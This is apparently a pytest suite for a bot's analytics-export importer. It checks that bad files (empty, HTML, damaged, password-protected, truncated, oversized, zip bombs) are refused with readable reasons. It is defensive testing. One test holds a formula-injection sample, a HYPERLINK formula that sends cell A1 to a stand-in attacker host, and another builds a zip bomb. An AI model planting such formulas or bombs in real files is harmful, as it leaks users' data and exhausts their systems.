"""Files that can't be imported: the sentence says why, and what to do next."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from bot.exports.limits import MOST_BYTES, MOST_MEMBERS
from bot.exports.reader import read_export
from bot.exports.reading import Reading, Refusal
from bot.exports.unpacking import members_of
from bot.read_export import as_json
from bot.views.messages.exported import left_out, refused
from tests.support.workbooks import Formula, archive, workbook

BAD = Path(__file__).parent / "samples" / "bad"
TODAY = date(2026, 11, 30)
HEADER = ["Post id", "Date", "Post text", "Post Link", "Impressions", "Likes"]


def said(data: bytes, name: str = "file.csv") -> str:
    """Why the file is refused, as a person reads it."""
    answer = read_export(data, name, TODAY)
    assert isinstance(answer, Refusal), answer
    return refused(name, answer)


def read(data: bytes, name: str = "file.csv") -> Reading:
    answer = read_export(data, name, TODAY)
    assert isinstance(answer, Reading), answer
    return answer


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("b04_empty.csv", ["b04_empty.csv", "It's empty", "Download it again"]),
        ("b05_html_login_page.csv", ["a web page, not the export", "Log in"]),
        (
            "b10_mixed_date_formats.csv",
            ["in several ways", "lines 2, 3, 4, 8, 9 and 10", "“03/04/2026”", "3 Apr", "4 Mar"],
        ),
        ("b14_contact_list_not_analytics.csv", ["not an analytics export", "didn't keep it"]),
    ],
)
def test_a_bad_file_is_refused_with_its_name_a_reason_and_a_step(
    name: str, words: list[str]
) -> None:
    sentence = said((BAD / name).read_bytes(), name)

    assert all(word in sentence for word in words), sentence


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\xef\xbb\xbf", "It's empty"),
        (b"\xff\xfe", "It's empty"),
        (b"\0" * 40, "It's empty"),
        (b" \r\n \r\n", "It's empty"),
        (b"Date,Impressions,Likes,New follows,Unfollows\n", "columns but no rows"),
        (b"Date,Likes\n", "columns but no rows"),
        (b"Datum;Besucher\n", "columns but no rows"),
        (b"Date,Likes,Views\n2026-0", "in the middle of line 2, before any full row"),
        (b"x", "no numbers by day or by post"),
        (b"<table><tr><td>Date</td></tr></table>", "a web page, not the export"),
        (b'\n <?xml version="1.0"?>', "a web page, not the export"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "a picture or a PDF"),
        (b"%PDF-1.7", "a picture or a PDF"),
        (bytes(range(1, 256)) * 4, "can't find text or a table"),
        (b"Hello there, how are you?\nFine, thanks.\n", "no numbers by day or by post"),
        (b"Email Address,First Name\n", "a list of people"),
        (b"a@example.com\nb@example.com\n", "a list of people"),
        (b"PK\x03\x04 and nothing else", "is damaged"),
        (b"\xd0\xcf\x11\xe0 and nothing else", "is damaged"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "needs a password"),
        (b"Date,Likes\n2026-03-01,1\n2026-03-01,2\n", "1 Mar 2026 is there twice"),
        (
            b"Date,Likes\nyesterday,1\n1/1/2026,2\n",
            "can't read the dates, the first of them in line 2",
        ),
        (
            b"Month,Existing,Imports,Optins\nSpring,100,0,5\n",
            "can't read the dates, the first of them in line 2",
        ),
        (b"Datum;Besucher\n2026-03-01;1.234\n", "thousands or decimals"),
        (bytes(MOST_BYTES + 1), "too large to read (over 20 MB)"),
        (b"a," * 600_000, "too large to read (over 200,000 cells)"),
    ],
    ids=lambda value: repr(value)[:30],
)
def test_each_kind_of_bad_file_has_its_own_reason(data: bytes, words: str) -> None:
    assert words in said(data)


@pytest.mark.parametrize(
    ("members", "words"),
    [
        ({}, "archive has no files"),
        ({"__MACOSX/._Overview.csv": "x"}, "archive has no files"),
        ({"inner.zip": archive({"a.csv": "x"})}, "another archive"),
        ({"a.csv": "", "b.csv": "<html>"}, "It's empty"),
        ({f"{number}.csv": "x" for number in range(MOST_MEMBERS + 1)}, "more than 200 files"),
        (
            {
                "a.csv": "Date,Facebook visits\n2026-03-01,1\n",
                "b.csv": "Date,Views,Subscribers\n2026-03-01,1,1\n",
            },
            "exports of several platforms",
        ),
    ],
)
def test_an_archive_is_refused_for_what_is_in_it(members: dict[str, str], words: str) -> None:
    assert words in said(archive(members), "download.zip")


def test_an_archive_may_hold_other_files_next_to_an_export() -> None:
    data = archive({"readme.pdf": b"%PDF", "Overview.csv": "Date,Facebook visits\n2026-03-01,5\n"})

    assert read(data).daily_totals == {"visits": 5}


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = archive({"xl/workbook.xml": "", "xl/worksheets/sheet1.xml": bytes(60_000_000)})

    assert len(bomb) < 100_000
    assert "over 50 MB unpacked" in said(bomb, "export.xlsx")


def test_one_cell_far_away_takes_no_memory() -> None:
    data = workbook({"Sheet": [["Date", "Likes"], ["2026-03-01", 1]]})
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    members = {
        name: content.replace(b"</sheetData>", far.encode())
        for name, content in members_of(data).items()
    }

    assert "too large to read (over 2,000,000 cells)" in said(archive(members), "far.xlsx")


def test_a_file_that_ends_within_a_row_asks_before_its_full_rows_count() -> None:
    name = "b01_truncated.csv"
    reading = read((BAD / name).read_bytes(), name)

    told = as_json(reading, name)

    assert told["rows"] == 17
    assert "in the middle of line 19" in told["refused"]
    assert "17 (12 Mar 2026 to 28 Mar 2026)" in told["refused"]


@pytest.mark.parametrize(
    "text",
    [
        "Date,Likes,Replies,New follows\n2026-03-01,1,2,3\n2026-03-02,1",
        'Date,Likes,Replies,New follows\n2026-03-01,1,2,3\n2026-03-02,1,"2',
    ],
)
def test_a_short_last_row_that_does_not_end_is_cut(text: str) -> None:
    reading = read(text.encode(), "x.csv")

    assert [ask.question for ask in reading.asks] == ["incomplete"]
    assert len({day.day for day in reading.days}) == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("lost", [1, 2, 3])
def test_a_file_that_ends_within_a_letter_is_cut(encoding: str, lost: int) -> None:
    text = 'Date,Likes,Video title\n2026-03-01,1,Kafé\n2026-03-02,1,"Kafé 🍂'

    reading = read(text.encode(encoding)[:-lost], "x.csv")

    assert [ask.question for ask in reading.asks] == ["incomplete"]
    assert len(reading.days) == 1


def test_columns_of_one_name_with_other_values_are_a_question() -> None:
    name = "b09_duplicate_headers.csv"
    reading = read((BAD / name).read_bytes(), name)

    assert reading.daily_totals == {}
    assert (
        "“Impressions” is there twice with different values (100 and 900 on 1 Mar"
        in as_json(reading, name)["refused"]
    )
    column = reading.asks[0]
    assert [choice.name for choice in column.choices] == ["Impressions (B)", "Impressions (D)"]
    chosen = reading.answered(column, column.choices[1])
    assert chosen.daily_totals == {"impressions": 6321}
    assert column not in chosen.asks


def test_posts_with_such_columns_are_refused() -> None:
    text = "Post id,Post text,Likes,Impressions,Impressions\n1,Hello,5,100,900\n"

    assert "“Impressions” is there twice with different values (100 and 900)" in said(text.encode())


def test_texts_like_formulas_stay_letter_for_letter() -> None:
    posts = read((BAD / "b06_formula_injection.csv").read_bytes()).posts

    assert len(posts) == 10
    assert posts[0].title == '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize("rows", [1, 2])
def test_a_formula_in_a_cell_of_a_number_leaves_its_row_out(rows: int) -> None:
    bad = [["1", "03/01/2026", "x", "https://x.com/1", Formula("A1+1"), 3]] * rows
    good = ["9", "03/02/2026", "=1+1", "https://x.com/9", 40, 4]
    reading = read(workbook({"Sheet": [HEADER, *bad, good]}), "x.xlsx")

    assert reading.post_totals == {"posts": 1, "impressions": 40, "likes": 4}
    reasons = [left_out(each.key, each.values) for each in reading.left_out]
    assert len(reasons) == 1
    assert "formula" in reasons[0]
    assert "cell E2" in reasons[0]


def test_a_text_that_a_spreadsheet_would_compute_is_a_formula_too() -> None:
    reading = read(b"Date,Likes,Unfollows,Impressions\n2026-03-01,=1+1,2,3\n2026-03-02,5,6,7\n")

    assert reading.daily_totals["likes"] == 5
    assert reading.rows == {"": 1}


def test_what_is_no_number_is_left_out_alone() -> None:
    reading = read(b"Date,Likes,Unfollows,Impressions\n2026-03-01,many,2,3\n2026-03-02,5,6,7\n")

    assert reading.daily_totals["likes"] == 5
    assert reading.daily_totals["impressions"] == 10
    reasons = [left_out(each.key, each.values) for each in reading.left_out]
    assert reasons == ["1 cell that isn't a number: “many” in B2"]


def test_the_name_of_a_file_says_nothing_about_what_it_is() -> None:
    renamed = (BAD / "b12_csv_renamed.xlsx").read_bytes()

    assert read(renamed, "b12_csv_renamed.xlsx").daily_totals["impressions"] == 226125
    assert read(workbook({"Sheet": [["Date", "Likes"], ["2026-03-01", 5]]}), "x.csv").days


def test_utf_16_needs_no_mark() -> None:
    name = "b03_utf16_without_bom.csv"

    assert read((BAD / name).read_bytes(), name).daily_totals == {"followers_gained": 550}
